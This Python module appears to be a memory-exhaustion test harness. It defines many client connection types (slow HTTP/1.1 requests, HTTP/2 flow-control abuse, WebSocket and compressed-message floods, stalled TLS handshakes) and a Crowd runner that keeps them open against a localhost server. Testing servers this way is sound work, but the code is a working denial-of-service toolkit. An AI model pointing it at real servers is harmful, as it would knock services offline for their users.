# SPDX-License-Identifier: Apache-2.0
"""Clients that make a server use memory. Each attack is a class of connections; a Crowd runs many such connections.

A connection sends as much as the server accepts, and from time to time a byte that keeps its request alive. The crowd
replaces connections that the server closes.
"""

import base64
import contextlib
import os
import select
import socket
import ssl
import struct
import time
import zlib

BODY = 1024 * 1024
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEAD = b"Host: localhost\r\n"
REST = 3  # seconds between the bytes that keep a request alive
SLACK = 4096  # bytes at the end of a body, which are sent one by one to keep the request alive
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """Returns a header field as an HPACK literal without indexing."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(method, path, *more):
    fields = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost"), *more]
    return b"".join(literal(*f) for f in fields)


def upgrade(path, *fields):
    """Returns the request that opens a WebSocket."""
    key = base64.b64encode(os.urandom(16))
    asked = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key
    return b"GET " + path + b" HTTP/1.1\r\n" + HEAD + b"\r\n".join([asked, *fields]) + b"\r\n\r\n"


def message(first, payload):
    """Returns a WebSocket frame; the mask is 0. `first` is its first byte."""
    return bytes([first, 0xfe]) + struct.pack(">H", len(payload)) + bytes(4) + payload


MESSAGE_HEAD = b"\x82\xff" + struct.pack(">Q", BODY) + bytes(4)  # of a message of 1 MiB


class Attacker:
    """A connection. Sends `begin` first, then the results of `more`, which is called whenever the socket is
    writable."""

    reads = True
    receive_buffer = None

    def __init__(self, port):
        self.socket = socket.socket()
        if self.receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", port))
        self.out = memoryview(self.begin())

    def begin(self):
        return b""

    def more(self):
        return b""

    def came(self, data):
        pass

    def sign_of_life(self):
        return b""


class Idle(Attacker):
    """HTTP/1.1: one request and its response, then idle."""

    def begin(self):
        return b"GET / HTTP/1.1\r\n" + HEAD + b"\r\n"


class PartialHead(Attacker):
    """HTTP/1.1: 14 KB of an endless request head."""

    def begin(self):
        return b"GET / HTTP/1.1\r\n" + HEAD + b"".join(b"A%d: " % i + b"b" * 150 + b"\r\n" for i in range(90))


class Body(Attacker):
    """HTTP/1.1: a body of 1 MiB except its last bytes."""

    def begin(self):
        return b"POST /echo HTTP/1.1\r\n" + HEAD + b"Content-Length: %d\r\n\r\n" % BODY + bytes(BODY - SLACK)

    def sign_of_life(self):
        return bytes(800)


class Pipelining(Attacker):
    """HTTP/1.1: pipelined requests whose responses are not read."""

    reads, receive_buffer = False, 2048
    requests = (b"GET / HTTP/1.1\r\n" + HEAD + b"\r\n") * 2000

    def more(self):
        return self.requests


class Answers(Attacker):
    """HTTP/1.1: a response of 1 MB that is not read."""

    reads, receive_buffer = False, 2048

    def begin(self):
        return b"GET /big/1000000 HTTP/1.1\r\n" + HEAD + b"\r\n"


class Http2(Attacker):
    """HTTP/2: only the preface."""

    def begin(self):
        return PREFACE + frame(SETTINGS, 0, 0)


class HalfHeaders(Http2):
    """HTTP/2: an endless HEADERS frame."""

    def begin(self):
        return super().begin() + struct.pack(">I", 100)[1:] + bytes([HEADERS, END_STREAM | END_HEADERS, 0, 0, 0,
                                                                     1]) + b"\x82\x86"


class Http2Bodies(Http2):
    """HTTP/2: 100 bodies of 1 MiB, except their last bytes."""

    streams = 100
    request = headers(b"POST", b"/echo")
    first = b""  # the first bytes of each body
    refused = (RST_STREAM, HEADERS)

    def begin(self):
        self.window, self.windows, self.left, self.unread = 65535, {}, {}, b""
        for i in range(self.streams):
            self.windows[2 * i + 1], self.left[2 * i + 1] = 256 * 1024, BODY - SLACK
        begun = self.request
        return super().begin() + b"".join(frame(HEADERS, END_HEADERS, stream, begun) for stream in self.windows)

    def came(self, data):
        self.unread += data
        while len(self.unread) >= 9:
            size = int.from_bytes(self.unread[:3], "big")
            if len(self.unread) < 9 + size:
                return
            kind, stream = self.unread[3], int.from_bytes(self.unread[5:9], "big") & 0x7fffffff
            payload, self.unread = self.unread[9:9 + size], self.unread[9 + size:]
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                if stream:
                    self.windows[stream] = self.windows.get(stream, 0) + more
                else:
                    self.window += more
            elif kind in self.refused:
                self.left.pop(stream, None)

    def more(self):
        pieces = []
        for stream in list(self.left):
            size = min(self.window, self.windows[stream], self.left[stream], 16384)
            if size > 0:
                begun = self.left[stream] < BODY - SLACK
                pieces.append(frame(DATA, 0, stream, (b"" if begun else self.first).ljust(size, b"\0")))
                self.window -= size
                self.windows[stream] -= size
                self.left[stream] -= size
        return b"".join(pieces)

    def sign_of_life(self):
        if self.window < 1000:
            return b""
        self.window -= 8
        return b"".join(frame(DATA, 0, stream, bytes(8)) for stream in list(self.left)[:1])


class Http2WebSockets(Http2Bodies):
    """HTTP/2: 100 WebSocket messages of 1 MiB, except their last bytes."""

    request = headers(b"CONNECT", b"/ws", (b":protocol", b"websocket"), (b"sec-websocket-version", b"13"))
    first = MESSAGE_HEAD
    refused = (RST_STREAM,)  # HEADERS accept a WebSocket


class Http2Answers(Http2):
    """HTTP/2: 100 responses of 1 MB, without flow-control window."""

    def begin(self):
        no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        asked = headers(b"GET", b"/big/1000000")
        return PREFACE + no_window + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, asked)
                                              for i in range(100))


class Http2Handlers(Http2):
    """HTTP/2: 100 requests whose handlers wait for 5 s."""

    def begin(self):
        asked = headers(b"GET", b"/patient/5000")
        return super().begin() + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, asked)
                                          for i in range(100))


class WebSocketMessage(Attacker):
    """WebSocket: a message of 1 MiB except its last bytes."""

    def begin(self):
        return upgrade(b"/ws") + MESSAGE_HEAD + bytes(BODY - SLACK)

    def sign_of_life(self):
        return b"\0"


class DeflatedMessage(Attacker):
    """WebSocket: a compressed message of 1 MiB, which takes 1 KB on the network, except its last bytes."""

    window_bits = 12  # of the server's default options

    def begin(self):
        deflate = zlib.compressobj(9, zlib.DEFLATED, -self.window_bits)
        small = deflate.compress(bytes(BODY - SLACK)) + deflate.flush(zlib.Z_SYNC_FLUSH)
        offer = b"Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=%d" % self.window_bits
        return upgrade(b"/ws", offer) + message(0x42, small)  # binary, compressed, not final

    def sign_of_life(self):
        data = bytes(800)
        stored = b"\0" + struct.pack("<HH", len(data), len(data) ^ 0xffff) + data  # a block of RFC 1951, 3.2.4
        return message(0x00, stored)


class RoomMember(Attacker):
    """WebSocket: a member of a room that does not read."""

    reads, receive_buffer = False, 2048

    def begin(self):
        return upgrade(b"/room")

    def sign_of_life(self):
        # One in a hundred members sends a message, which the server sends to all others.
        return b"" if self.socket.fileno() % 100 else message(0x82, bytes(60000))


class TlsSilent(Attacker):
    """TLS: connected, but no handshake begun."""

    secure = True


class TlsBegun(Attacker):
    """TLS: a handshake that is not continued."""

    secure = True
    hello = b""  # shared by all: creating a context takes longer than the server's response

    def begin(self):
        if not self.hello:
            outgoing = ssl.MemoryBIO()
            with contextlib.suppress(ssl.SSLWantReadError):
                begun = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost")
                begun.do_handshake()
            TlsBegun.hello = outgoing.read()
        return self.hello


class Secure:
    """Completes the TLS handshake of an attacker before its first bytes. Place it before the other base class."""

    secure, protocol = True, "http/1.1"
    contexts: dict = {}  # by protocol: creating a context takes longer than a handshake

    def __init__(self, port):
        context = self.contexts.get(self.protocol)
        if not context:
            context = self.contexts[self.protocol] = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols([self.protocol])
        self.socket = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=20))
        self.socket.setblocking(False)
        self.out = memoryview(self.begin())


class TlsIdle(Secure, Idle):
    """TLS: one HTTP/1.1 request and its response, then idle."""


class TlsHttp2Bodies(Secure, Http2Bodies):
    """TLS, HTTP/2: 100 bodies of 1 MiB, except their last bytes."""

    protocol = "h2"


class TlsHttp2Answers(Secure, Http2Answers):
    """TLS, HTTP/2: 100 responses of 1 MB, without flow-control window."""

    protocol = "h2"


ATTACKS = {a.__name__: a for a in (
    Idle, PartialHead, Body, Pipelining, Answers, Http2, HalfHeaders, Http2Bodies, Http2WebSockets, Http2Answers,
    Http2Handlers, WebSocketMessage, DeflatedMessage, RoomMember, TlsSilent, TlsBegun, TlsIdle, TlsHttp2Bodies,
    TlsHttp2Answers)}


class Crowd:
    """Runs a number of attackers together."""

    def __init__(self, attack, port, count):
        self.attack, self.port, self.count = attack, port, count
        self.poll = select.epoll()
        self.all = {}
        self.closed = 0
        self.next_sign = time.monotonic() + REST

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for a in self.all.values():
            a.socket.close()
        self.poll.close()

    def _open(self):
        try:
            a = self.attack(self.port)
        except OSError:
            return
        fd = a.socket.fileno()
        self.all[fd] = a
        self.poll.register(fd, select.EPOLLOUT | (select.EPOLLIN if a.reads else 0))

    def _close(self, fd):
        self.closed += 1
        self.poll.unregister(fd)
        self.all.pop(fd).socket.close()

    def run(self, seconds):
        """Runs the attackers for this many seconds."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(min(self.count - len(self.all), 50)):
                self._open()
            if time.monotonic() > self.next_sign:
                self.next_sign = time.monotonic() + REST
                for fd, a in self.all.items():
                    if not a.out and (sign := a.sign_of_life()):
                        a.out = memoryview(sign)
                        self._watch(fd, a, True)
            for fd, events in self.poll.poll(0.02):
                self._serve(fd, events)

    def _watch(self, fd, a, sends):
        self.poll.modify(fd, (select.EPOLLOUT if sends else 0) | (select.EPOLLIN if a.reads else 0))

    def _serve(self, fd, events):
        a = self.all.get(fd)
        if not a:
            return
        try:
            if events & (select.EPOLLHUP | select.EPOLLERR):
                return self._close(fd)
            if events & select.EPOLLIN:
                data = a.socket.recv(1 << 16)
                if not data:
                    return self._close(fd)
                a.came(data)
            for _ in range(16):
                a.out = a.out or memoryview(a.more())
                if not a.out:
                    break
                a.out = a.out[a.socket.send(a.out):]
            self._watch(fd, a, bool(a.out))
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self._close(fd)
